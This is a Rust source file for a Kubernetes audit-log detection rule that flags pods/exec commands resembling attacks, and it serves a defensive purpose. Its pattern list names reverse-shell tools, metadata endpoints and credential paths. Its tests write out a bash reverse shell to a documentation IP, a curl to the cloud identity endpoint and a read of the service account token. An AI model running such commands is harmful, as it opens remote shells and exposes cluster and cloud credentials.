//! Exec whose command looks like an attack: reverse shells, downloads, metadata endpoint,
//! credential files.

use kubeward_core::{CheckDoc, CheckMeta, RefStatic, Severity, Status};

use super::*;

pub static META: CheckMeta = meta(
    "A002",
    "exec-suspicious-command",
    "Exec runs a command typical of an attack",
    Severity::High,
    &[
        RefStatic::mitre("T1059"),
        RefStatic::mitre("T1552.005"),
        ms("MS-TA9007"),
    ],
    CheckDoc {
        what: "The `command` parameters of pods/exec requests (visible in the request URI at every audit level) matched against reverse-shell, download, cloud metadata (169.254.169.254) and credential-path patterns.",
        why: "These commands fetch tools, open shells back to an attacker or read the node's and pod's credentials (service account token, azure.json, IMDS tokens).",
        fix: "Treat as an incident: identify the user and source IP, revoke their credentials (`az aks get-credentials` is per user with Entra ID; rotate the cluster certificates with `az aks rotate-certs` if the local admin was used), inspect the pod and restrict pods/exec in RBAC.",
        links: &[
            "https://microsoft.github.io/Threat-Matrix-for-Kubernetes/techniques/bash%20or%20cmd%20inside%20container/",
        ],
    },
);

pub static RULE: Rule = Rule {
    meta: &META,
    needs: Needs {
        read_verbs: ReadVerbs::Partly,
        ..Needs::METADATA
    },
    on_match: Status::Fail,
    eval,
    precondition: always,
};

const PATTERNS: &[&str] = &[
    "/dev/tcp/",
    "/dev/udp/",
    "nc -e",
    "ncat ",
    "socat ",
    "curl ",
    "wget ",
    "169.254.169.254",
    "168.63.129.16",
    "/var/run/secrets/kubernetes.io",
    "/etc/kubernetes/azure.json",
    "/etc/shadow",
    "base64 -d",
    "python -c",
    "python3 -c",
    "perl -e",
    "mkfifo",
    "xmrig",
    "nsenter",
    "chroot /host",
];

fn eval(v: &EventView, _: &Config) -> Option<String> {
    if v.resource() != "pods" || v.subresource() != "exec" || !v.is_stream_start() {
        return None;
    }
    let cmd = v.uri_params("command").join(" ");
    let hit = PATTERNS.iter().find(|p| cmd.contains(*p))?;
    Some(format!(
        "exec into {}: `{cmd}` (matches `{hit}`)",
        object_name(v)
    ))
}

#[cfg(test)]
mod tests {
    use super::super::testing::*;
    use super::*;
    use serde_json::json;

    fn exec(uri_cmd: &str) -> serde_json::Value {
        json!({"verb": "get", "stage": "ResponseStarted", "objectRef": {"subresource": "exec"},
               "requestURI": format!("/api/v1/namespaces/default/pods/web/exec?{uri_cmd}&stdin=true"), "responseStatus": {"code": 101}})
    }

    #[test]
    fn fires_on_reverse_shell_and_imds() {
        assert!(fires(
            &RULE,
            exec(
                "command=bash&command=-c&command=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F198.51.100.9%2F4444%200%3E%261"
            )
        ));
        assert!(fires(
            &RULE,
            exec("command=curl+-H+Metadata:true+http://169.254.169.254/metadata/identity")
        ));
        assert!(fires(
            &RULE,
            exec("command=cat&command=/var/run/secrets/kubernetes.io/serviceaccount/token")
        ));
    }

    #[test]
    fn silent_on_ordinary_commands() {
        assert!(!fires(&RULE, exec("command=ls&command=-la")));
        assert!(!fires(&RULE, exec("command=sh")));
        assert!(!fires(&RULE, json!({"verb": "create"})));
    }
}
